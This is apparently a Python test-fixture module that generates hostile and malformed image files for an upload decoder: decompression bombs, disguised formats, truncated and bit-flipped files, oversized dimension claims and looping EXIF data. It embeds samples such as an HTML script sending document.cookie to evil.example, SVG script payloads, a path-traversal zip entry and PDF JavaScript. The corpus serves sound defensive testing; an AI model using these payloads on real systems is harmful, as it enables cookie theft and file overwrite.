"""Files that mean harm, made here: bombs, liars, torsos. Each with whether a picture may come out of it at all."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from PIL import Image
from pillow_heif import register_heif_opener

register_heif_opener()  # for the tests to write with; the product never asks Pillow for it

PNG = b"\x89PNG\r\n\x1a\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
HTML = b"<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>"
#: The longest side a header can claim in each format, and beyond what may be decoded.
HUGE = 65_535
#: The bytes of a file, or how to make them where that takes long: whoever only wants the names does not wait.
Body = bytes | Callable[[], bytes]


def encoded(picture: Image.Image, form: str, **options: object) -> bytes:
    """A picture as bytes."""
    kept = io.BytesIO()
    picture.save(kept, form, **options)
    return kept.getvalue()


def a_place(form: str, size: tuple[int, int] = (160, 120)) -> bytes:
    """An honest picture."""
    return encoded(Image.linear_gradient("L").resize(size).convert("RGB"), form)


def chunk(kind: bytes, body: bytes) -> bytes:
    """One chunk of a PNG, with its checksum right."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 0, data: bytes = b"") -> bytes:
    """A PNG that claims a size, whatever is in it."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return PNG + header + b"".join(chunks) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def segment(marker: int, body: bytes) -> bytes:
    """One segment of a JPEG."""
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def after_start(jpeg: bytes, *segments: bytes) -> bytes:
    """A JPEG with more segments right behind its beginning."""
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def zeros(length: int) -> bytes:
    """Many zeros in few bytes."""
    pack = zlib.compressobj(9)
    return b"".join(pack.compress(bytes(1 << 20)) for _ in range(length >> 20)) + pack.flush()


def corpus() -> Iterator[tuple[str, Body, bool]]:
    """(name, body, may a picture come out)."""
    yield from _no_pictures()
    yield from _liars()
    yield from _claims()
    yield from _bombs()
    yield from _torsos()
    yield from _mangled()
    yield from _baggage()


def _no_pictures() -> Iterator[tuple[str, bytes, bool]]:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as box:
        box.writestr("../../evil.py", "import os")
    yield "empty.jpg", b"", False
    yield "one-byte.jpg", b"\xff", False
    yield "svg.jpg", SVG, False
    yield "svg-with-xml-head.png", b'<?xml version="1.0"?>' + SVG, False
    yield "html.webp", HTML, False
    yield "zip.jpg", packed.getvalue(), False
    yield "gzip-bomb.jpg", b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + zeros(64 << 20), False
    yield "pdf.jpg", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", False
    yield "elf.jpg", b"\x7fELF" + bytes(200), False
    yield "postscript.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n{} loop", False
    yield "xbm.jpg", b"#define a_width 9\n#define a_height 9\nstatic char a_bits[] = {1};", False
    yield "ppm.jpg", b"P6 60000 60000 255\n", False
    yield "random.jpg", bytes((n * 131 + 7) % 256 for n in range(5000)), False
    yield "sound.jpg", b"\x1a\x45\xdf\xa3" + bytes(500), False


def _liars() -> Iterator[tuple[str, bytes, bool]]:
    for form in ("GIF", "BMP", "TIFF", "ICO", "TGA", "PPM", "AVIF", "JPEG2000"):
        yield f"{form.lower()}-named.jpg", a_place(form), False
    frames = [Image.new("L", (60, 60), n % 250) for n in range(400)]
    yield "gif-of-400.jpg", encoded(frames[0], "GIF", save_all=True, append_images=frames[1:]), False
    yield "gif-65535.jpg", b"GIF89a" + struct.pack("<HH", HUGE, HUGE) + b"\x80\0\0" + bytes(6) + b";", False
    yield "heic.jpg", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(400), False
    yield "wave-in-riff.webp", b"RIFF\x24\0\0\0WAVEfmt " + bytes(30), False
    for form in ("JPEG", "PNG", "WEBP"):
        yield f"really-{form.lower()}.exe", a_place(form), True
        yield f"{form.lower()}-behind-html.jpg", HTML + a_place(form), False
        yield f"{form.lower()}-then-html.jpg", a_place(form) + HTML, True
    yield "jpeg-in-riff.webp", b"RIFF" + struct.pack("<I", 9000) + b"WEBP" + a_place("JPEG"), False


def _claims() -> Iterator[tuple[str, bytes, bool]]:
    """Headers that promise more than anybody has memory for."""
    jpeg = a_place("JPEG")
    at = jpeg.index(b"\xff\xc0") + 5
    for name, height, width in (("square", HUGE, HUGE), ("wide", 1000, HUGE), ("tall", HUGE, 800), ("flat", 0, 160)):
        yield f"jpeg-{name}.jpg", jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :], False
    for name, width, height in (
        ("square", HUGE, HUGE),
        ("2-31", 2**31 - 1, 2**31 - 1),
        ("none", 0, 0),
        ("line", 2**31 - 1, 1),
    ):
        yield f"png-{name}.png", png(width, height, data=zeros(1 << 20)), False
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + (16_383).to_bytes(3, "little") * 2
    yield "webp-16384.webp", b"RIFF" + struct.pack("<I", 4 + len(vp8x)) + b"WEBP" + vp8x, False
    vp8l = b"\x2f" + (16_383 | 16_383 << 14).to_bytes(4, "little") + bytes(40)
    body = b"VP8L" + struct.pack("<I", len(vp8l)) + vp8l + b"\0"
    yield "webp-lossless-16384.webp", b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body, False


def _bombs() -> Iterator[tuple[str, Body, bool]]:
    """Few bytes that really are many points, or much text."""
    yield from _many_points()
    yield from _much_text()
    yield "webp-of-300.webp", lambda: _film("WEBP"), True
    yield "apng-of-300.png", lambda: _film("PNG"), True
    small = encoded(Image.new("RGB", (64, 64)), "JPEG", progressive=True)
    scan = small[small.rindex(b"\xff\xda") : -2]
    yield "jpeg-of-many-scans.jpg", small[:-2] + scan * 4000 + b"\xff\xd9", True
    yield (
        "jpeg-profile-255.jpg",
        after_start(
            a_place("JPEG"), *(segment(0xE2, b"ICC_PROFILE\0" + bytes((n, 255)) + bytes(60_000)) for n in range(1, 256))
        ),
        True,
    )


def _many_points() -> Iterator[tuple[str, Body, bool]]:
    def wide(mode: str = "L") -> Image.Image:
        return Image.new("L", (11_000, 11_000)).convert(mode)

    def most(mode: str = "RGB") -> Image.Image:
        return Image.new("RGB", (7_000, 7_000), "teal").convert(mode)

    yield "jpeg-121-million.jpg", lambda: encoded(wide(), "JPEG", quality=1), False
    yield "png-121-million.png", lambda: encoded(wide(), "PNG"), False
    yield "png-1-bit-121-million.png", lambda: encoded(wide("1"), "PNG"), False
    yield "webp-121-million.webp", lambda: encoded(wide("RGB"), "WEBP", quality=1, method=0), False
    yield "jpeg-49-million.jpg", lambda: encoded(most(), "JPEG"), True
    yield "jpeg-49-million-in-steps.jpg", lambda: encoded(most(), "JPEG", progressive=True, subsampling=0), True
    yield "png-49-million.png", lambda: encoded(most("RGBA"), "PNG"), True
    sixteen = ("I;16", (7_000, 7_000), 40_000)
    yield "png-49-million-16-bit.png", lambda: encoded(Image.new(*sixteen), "PNG"), True


def _much_text() -> Iterator[tuple[str, Body, bool]]:
    dot = zlib.compress(bytes(90))
    yield "png-text.png", lambda: png(9, 9, chunk(b"zTXt", b"a\0\0" + zeros(256 << 20)), data=dot), False
    yield "png-text-many.png", png(9, 9, chunk(b"zTXt", b"a\0\0" + zeros(1 << 20)) * 200, data=dot), False
    yield "png-profile.png", lambda: png(9, 9, chunk(b"iCCP", b"a\0\0" + zeros(256 << 20)), data=dot), True
    yield "png-points.png", lambda: png(9, 9, data=zeros(256 << 20)), True


def _film(form: str) -> bytes:
    frames = [Image.new("RGB", (200, 200), (n % 250, 0, 0)) for n in range(300)]
    return encoded(frames[0], form, save_all=True, append_images=frames[1:])


def _torsos() -> Iterator[tuple[str, bytes, bool]]:
    for form in ("JPEG", "PNG", "WEBP"):
        whole = a_place(form)
        for part in (3, 4, 8, 12, 20, 30, 60, len(whole) // 4, len(whole) // 2, len(whole) * 3 // 4, len(whole) - 40):
            yield f"{form.lower()}-first-{part}", whole[:part], False


def _mangled() -> Iterator[tuple[str, bytes, bool]]:
    """One byte in the middle is another: it may still be a picture, or not; nothing else may come of it."""
    for form in ("JPEG", "PNG", "WEBP"):
        whole = a_place(form)
        for n in range(1, 6):
            torn = bytearray(whole)
            torn[len(whole) * n // 6] ^= 0xFF
            yield f"{form.lower()}-torn-{n}", bytes(torn), True


def _baggage() -> Iterator[tuple[str, bytes, bool]]:
    jpeg = a_place("JPEG")
    loop = b"Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\0\0\0\0"
    yield "exif-in-a-circle.jpg", after_start(jpeg, segment(0xE1, loop)), True
    far = b"Exif\0\0II*\0\x08\0\0\0\xff\xff" + b"\x12\x01\x02\0\xff\xff\xff\x7f\xff\xff\xff\x7f" * 5000
    yield "exif-of-lies.jpg", after_start(jpeg, segment(0xE1, far)), True
    turned = b"Exif\0\0II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\x63\0\0\0\0\0\0\0"
    yield "exif-turned-99.jpg", after_start(jpeg, segment(0xE1, turned)), True
    yield "exif-torn.jpg", after_start(jpeg, segment(0xE1, b"Exif\0\0MM")), True
    yield "mpf-torn.jpg", after_start(jpeg, segment(0xE2, b"MPF\0MM\0*\0\0\0\x08\0\x03" + bytes(20))), True
    yield (
        "photoshop-torn.jpg",
        after_start(jpeg, segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0\xff\xff\xff\xff")),
        True,
    )
    yield "comments.jpg", after_start(jpeg, *(segment(0xFE, b"x" * 65_000) for _ in range(50))), True
    yield "twice.jpg", jpeg + jpeg, True
